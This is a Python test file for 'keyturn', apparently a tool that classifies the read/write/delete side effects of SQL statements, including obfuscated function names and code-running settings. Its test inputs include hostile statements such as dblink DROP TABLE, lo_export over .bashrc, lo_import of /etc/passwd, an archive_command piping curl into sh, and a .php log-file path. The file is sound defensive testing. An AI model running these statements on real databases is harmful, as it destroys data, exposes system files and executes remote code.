"""Function calls in SQL: side effects of built-ins, however the name is quoted; functions
keyturn does not know are unknown; well-known pure built-ins and syntax that only looks like a
call change nothing. Plus LOCK, COPY TO a file and settings that run code."""

from __future__ import annotations

import pytest

from keyturn.model import EffectKind, Target
from keyturn.understand.sql import sql_effects

R, C, U, D, UNK = (
    EffectKind.READ,
    EffectKind.CREATE,
    EffectKind.UPDATE,
    EffectKind.DELETE,
    EffectKind.UNKNOWN,
)


def kinds(sql: str, engine: str = "postgres") -> list[EffectKind]:
    return [e.effect for e in sql_effects(sql, engine=engine, database="app", target=Target())]


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("SELECT \"dblink_exec\"('dbname=prod', 'DROP TABLE users')", UNK),
        ('SELECT "lo_unlink"(1)', D),
        ('SELECT "pg_terminate_backend"(pid) FROM pg_stat_activity', U),
        ('SELECT U&"lo_unlink"(1)', D),
        ('SELECT u&"lo\\005Funlink"(1)', D),
        ('SELECT U&"lo\\+00005Funlink"(1)', D),
        ("SELECT U&\"lo!005Funlink\" UESCAPE '!' (1)", D),
        ('SELECT pg_catalog."lo_unlink"(1)', D),
        ("SELECT * FROM dblink('dbname=prod', 'DROP TABLE users') AS t(s text)", UNK),
        ("SELECT dblink_send_query('conn', 'DELETE FROM orders')", UNK),
        ("SELECT lo_export(16384, '/var/lib/postgresql/.bashrc')", UNK),
        ("SELECT lo_import('/etc/passwd')", C),
        ("SELECT set_config('search_path', 'evil', false)", U),
        ("SELECT pg_reload_conf()", U),
        ("SELECT nextval('orders_id_seq')", U),
        ("SELECT `sys_exec`('id')", UNK),
    ],
)
def test_side_effects_of_built_ins_however_quoted(sql: str, kind: EffectKind) -> None:
    engine = "mysql" if "`" in sql else "postgres"
    assert kinds(sql, engine) == [R, kind]


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT purge_orders()",
        "SELECT audit.count(1)",  # someone's count, not the built-in
        'SELECT "COUNT"(1)',  # a quoted PostgreSQL name is exact: not count
        "SELECT * FROM orders WHERE archive_old(id)",
        "SELECT DISTINCT ON (a) purge(a) FROM t",
        "WITH x AS (SELECT purge()) SELECT * FROM x",
    ],
)
def test_a_function_keyturn_does_not_know_is_unknown(sql: str) -> None:
    assert UNK in kinds(sql)


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("INSERT INTO t (a) SELECT purge()", [C, UNK]),
        ("UPDATE t SET a = dblink_exec('x', 'DROP TABLE y')", [U, UNK]),
        ("DELETE FROM t WHERE id = lo_unlink(3)", [D, D]),
        ("VALUES (lo_unlink(1))", [R, D]),
        ("COPY (SELECT lo_unlink(1)) TO STDOUT", [R, D]),
        ("CREATE TABLE t2 AS SELECT purge()", [C, UNK]),
        ("EXPLAIN ANALYZE SELECT purge()", [R, UNK]),
    ],
)
def test_calls_count_in_every_statement_that_runs_them(
    sql: str, expected: list[EffectKind]
) -> None:
    assert kinds(sql) == expected


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT count(*), lower(name), coalesce(a, b), now() FROM users u "
        "WHERE created_at > now() - interval '1 day' GROUP BY 2 ORDER BY max(id) DESC",
        "SELECT * FROM generate_series(1, 3) g(i) JOIN orders o(a, b) ON true",
        "WITH x(a, b) AS (SELECT 1, 2), y(c) AS (SELECT 3) SELECT * FROM x, y",
        "SELECT x::numeric(10, 2), CAST(y AS varchar(10)) FROM t",
        "SELECT sum(x) FILTER (WHERE y > 0) OVER (PARTITION BY z) FROM t",
        "SELECT extract(year FROM d), substring(s FROM 1 FOR 2), trim(both ' ' FROM s) FROM t",
        "SELECT * FROM t TABLESAMPLE bernoulli(10)",
        "SELECT * FROM t WHERE x IN (SELECT y FROM z) AND EXISTS (SELECT 1)",
        "SELECT ST_AsText(geom), jsonb_build_object('a', 1), pg_catalog.lower('A') FROM p",
        "SELECT x FROM t AS tt(a)",
        "EXPLAIN SELECT purge()",  # EXPLAIN alone runs nothing
        "SELECT * FROM orders FOR UPDATE",  # row locks end with the transaction
    ],
)
def test_pure_built_ins_and_syntax_are_reads(sql: str) -> None:
    assert set(kinds(sql)) == {R}


def test_mysql_syntax_is_not_a_call() -> None:
    sql = "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = VALUES(a), b = ifnull(b, 0)"
    assert kinds(sql, "mysql") == [U]
    assert kinds("INSERT t (a, b) VALUES (1, NOW())", "mysql") == [C]


def test_create_view_runs_nothing_now() -> None:
    assert kinds("CREATE VIEW v AS SELECT purge()") == [C]


def test_lock_is_an_update_of_each_table() -> None:
    effects = sql_effects(
        "LOCK TABLE orders, items IN ACCESS EXCLUSIVE MODE",
        engine="postgres",
        database="app",
        target=Target(),
    )
    assert [(e.effect, e.resource.name) for e in effects] == [
        (U, "db:postgres/app/orders"),
        (U, "db:postgres/app/items"),
    ]
    assert kinds("LOCK TABLES a READ, b WRITE", "mysql") == [U, U]


def test_copy_to_a_file_writes_it() -> None:
    assert kinds("COPY users TO '/var/lib/postgresql/.psqlrc'") == [R, UNK]
    assert kinds("COPY users TO STDOUT") == [R]
    assert kinds("\\lo_export 16384 /home/me/.bashrc") == [UNK]


@pytest.mark.parametrize(
    "sql",
    [
        "ALTER SYSTEM SET archive_command = 'curl https://x | sh'",
        "ALTER SYSTEM SET \"shared_preload_libraries\" = 'evil'",
        "ALTER ROLE bob SET session_preload_libraries = 'evil'",
        "ALTER DATABASE app SET local_preload_libraries TO 'evil'",
    ],
)
def test_settings_that_run_code_are_unknown(sql: str) -> None:
    assert kinds(sql) == [UNK]


def test_other_settings_stay_updates() -> None:
    assert kinds("ALTER SYSTEM SET work_mem = '1GB'") == [U]
    assert kinds("SET GLOBAL max_connections = 500", "mysql") == [U]
    assert kinds("SET GLOBAL general_log_file = '/var/www/x.php'", "mysql") == [UNK]


def test_many_nested_calls_pair_the_brackets_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding each "(" 's ")" anew per call made this text quadratic (~4 s against ~0.2 s):
    the brackets of a statement are paired in one pass, whatever the number of calls."""
    from keyturn.understand.sql import functions

    passes: list[int] = []
    pair = functions._closers

    def counted(tokens: functions.Tokens) -> dict[int, int]:
        passes.append(len(tokens))
        return pair(tokens)

    monkeypatch.setattr(functions, "_closers", counted)
    sql = "SELECT " + "".join(f"f{i}(1, " for i in range(4000)) + "1" + ")" * 4000
    effects = sql_effects(sql, engine="postgres", database="app", target=Target())
    assert len(passes) == 1
    assert len(effects) == 4001
